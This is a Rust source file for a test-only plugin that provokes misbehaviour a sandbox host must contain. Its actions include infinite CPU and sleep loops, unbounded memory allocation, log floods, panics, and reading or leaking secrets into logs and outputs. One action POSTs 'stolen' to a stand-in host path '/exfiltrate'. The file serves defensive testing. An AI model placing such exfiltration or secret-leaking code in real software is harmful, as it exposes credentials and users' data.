//! A test-only provider plugin that misbehaves on request.
//!
//! Each action provokes one thing the host's sandbox must contain; `noop`
//! behaves, so tests can check that the host still serves the next action,
//! and benchmarks can measure the host's own per-action overhead.

use cordon_plugin_sdk::prelude::*;
use std::hint::black_box;

struct Misbehave;

impl Provider for Misbehave {
    fn describe() -> PluginInfo {
        let action = |name: &str, description: &str| {
            Action::new(name, Effect::Quarantine, &IdentityKind::ALL, description)
        };
        // With `leak_everywhere`, the granted secret is put into every
        // string describe and inspect return: the host must scrub them all.
        let leaked = leaked_secret();
        let version = match &leaked {
            Some(value) => format!("{}+{value}", env!("CARGO_PKG_VERSION")),
            None => env!("CARGO_PKG_VERSION").to_string(),
        };
        let noop = match &leaked {
            Some(value) => format!("does nothing and reports applied ({value})"),
            None => "does nothing and reports applied".to_string(),
        };
        PluginSpec::new("test", &version)
            .secret("token", false, "a secret the plugin is granted in tests")
            .config(
                "ungranted_url",
                false,
                "where call-ungranted-host sends its request",
            )
            .config(
                "leak_everywhere",
                false,
                "`true`: put the granted secret into every string describe and inspect return",
            )
            .action(action("noop", &noop).param(
                "note",
                false,
                "echoed back as evidence",
            ))
            .action(action("loop-forever", "spins the CPU forever"))
            .action(action(
                "sleep-forever",
                "waits on a timer forever, using no CPU",
            ))
            .action(action(
                "allocate-unbounded",
                "allocates memory until stopped",
            ))
            .action(action(
                "call-ungranted-host",
                "sends a request to a host it was not granted",
            ))
            .action(action(
                "read-ungranted-secret",
                "asks for a secret it was not granted",
            ))
            .action(action(
                "log-secret",
                "writes its granted secret to the log and its outcome",
            ))
            .action(action(
                "leak-derived",
                "derives a secret (param `derived`), asks the host to redact it, then shows it in its log, outcome, a request path and, with `fail`, an error",
            ).param("derived", true, "the derived secret").param("fail", false, "fail with the value in the error").param("url", false, "a granted origin to request, with the value in the path"))
            .action(action("return-huge", "returns a 2 MiB detail"))
            .action(action("return-many", "returns 200,000 evidence entries"))
            .action(action("log-flood", "writes 100,000 log lines"))
            .action(
                action(
                    "fan-out",
                    "starts `count` GET requests to `url` at once, then waits for each in turn (last first with `reverse`)",
                )
                .param("url", true, "http://HOST:PORT")
                .param("count", true, "how many")
                .param("reverse", false, "`true`: wait for the last request first"),
            )
            .action(action("panic", "panics"))
            .build()
    }

    fn execute(request: ActionRequest) -> Result<ActionOutcome, ProviderError> {
        match request.action.as_str() {
            "noop" => {
                let mut outcome =
                    Outcome::applied(format!("nothing done to {}", request.target.id))
                        .evidence("target", request.target.id.clone());
                if let Some(note) = request.param("note") {
                    outcome = outcome.evidence("note", note);
                }
                if request.dry_run {
                    outcome = Outcome::planned("would do nothing");
                }
                outcome.done()
            }
            "loop-forever" => {
                let mut counter: u64 = 0;
                loop {
                    counter = black_box(counter.wrapping_add(1));
                }
            }
            "sleep-forever" => cordon_plugin_sdk::wstd::runtime::block_on(async {
                loop {
                    cordon_plugin_sdk::wstd::task::sleep(
                        cordon_plugin_sdk::wstd::time::Duration::from_secs(3600),
                    )
                    .await;
                }
            }),
            "allocate-unbounded" => {
                let mut hoard: Vec<Vec<u8>> = Vec::new();
                loop {
                    hoard.push(vec![1u8; 1 << 20]);
                    black_box(&hoard);
                }
            }
            "call-ungranted-host" => {
                let url = config_or("ungranted_url", "http://198.51.100.7/exfiltrate");
                let response = Request::post(url).body("stolen").send()?;
                Outcome::applied(format!("sent, got {}", response.status)).done()
            }
            "read-ungranted-secret" => {
                let value = secret("not-granted")?;
                Outcome::applied(format!("read {} bytes", value.len())).done()
            }
            "log-secret" => {
                let value = secret("token")?;
                log::warn(&format!("the token is {value}"));
                Outcome::applied(format!("token={value}"))
                    .evidence("token", value)
                    .done()
            }
            "leak-derived" => {
                let value = request.require_param("derived")?.to_string();
                redact(&value);
                log::warn(&format!("derived {value}"));
                if let Some(url) = request.param("url") {
                    let _ = Request::get(format!("{url}/derived/{value}")).send();
                }
                if request.param("fail").is_some() {
                    return Err(invalid(format!("cannot use {value}")));
                }
                Outcome::applied(format!("derived={value}"))
                    .evidence("derived", value.clone())
                    .restore("derived", value)
                    .done()
            }
            "return-huge" => Outcome::applied("x".repeat(2 << 20)).done(),
            "return-many" => (0..200_000)
                .fold(Outcome::applied("many"), |o, i| {
                    o.evidence(i.to_string(), "e")
                })
                .done(),
            "log-flood" => {
                for i in 0..100_000 {
                    log::info(&format!("flood line {i} {}", "f".repeat(80)));
                }
                Outcome::applied("flooded").done()
            }
            "fan-out" => {
                let url = request.require_param("url")?;
                let count: usize = request.require_param("count")?.parse().unwrap_or(1);
                let reverse = request.param("reverse") == Some("true");
                let answered = fan_out(url, count, reverse);
                Outcome::applied(format!("{answered} of {count} answered")).done()
            }
            "panic" => panic!("misbehave plugin panicked on purpose"),
            other => Err(invalid(format!("unknown action `{other}`"))),
        }
    }

    fn inspect(target: Identity) -> Result<IdentityFacts, ProviderError> {
        if let Some(value) = leaked_secret() {
            return Ok(IdentityFacts {
                owner: Some(format!("owner {value}")),
                workload: Some(format!("workload {value}")),
                issuer: Some(format!("issuer {value}")),
                used_by: None,
                attributes: vec![(format!("key-{value}"), format!("value {value}"))],
            });
        }
        Ok(IdentityFacts {
            owner: target.attribute("owner").map(str::to_string),
            workload: None,
            issuer: Some("test".into()),
            used_by: None,
            attributes: Vec::new(),
        })
    }
}

/// The granted `token` secret, when config `leak_everywhere` is `true`.
fn leaked_secret() -> Option<String> {
    (config_or("leak_everywhere", "") == "true")
        .then(|| secret("token").ok())
        .flatten()
}

/// Starts `count` requests before waiting for any (wasi:http `handle` sends
/// at once), so the host sees them all in flight together; then takes their
/// answers one by one, in the order sent or, with `reverse`, last first.
fn fan_out(url: &str, count: usize, reverse: bool) -> usize {
    use wasip2::http::outgoing_handler::handle;
    use wasip2::http::types::{Fields, Method, OutgoingBody, OutgoingRequest, Scheme};
    let authority = url.trim_start_matches("http://").trim_end_matches('/');
    let mut pending = Vec::new();
    for i in 0..count {
        let request = OutgoingRequest::new(Fields::new());
        let _ = request.set_method(&Method::Get);
        let _ = request.set_scheme(Some(&Scheme::Http));
        let _ = request.set_authority(Some(authority));
        let _ = request.set_path_with_query(Some(&format!("/fan/{i}")));
        let Ok(body) = request.body() else { continue };
        if let Ok(future) = handle(request, None) {
            let _ = OutgoingBody::finish(body, None);
            pending.push(future);
        }
    }
    if reverse {
        pending.reverse();
    }
    pending
        .into_iter()
        .filter(|future| {
            future.subscribe().block();
            matches!(future.get(), Some(Ok(Ok(_))))
        })
        .count()
}

cordon_plugin_sdk::export_provider!(Misbehave);
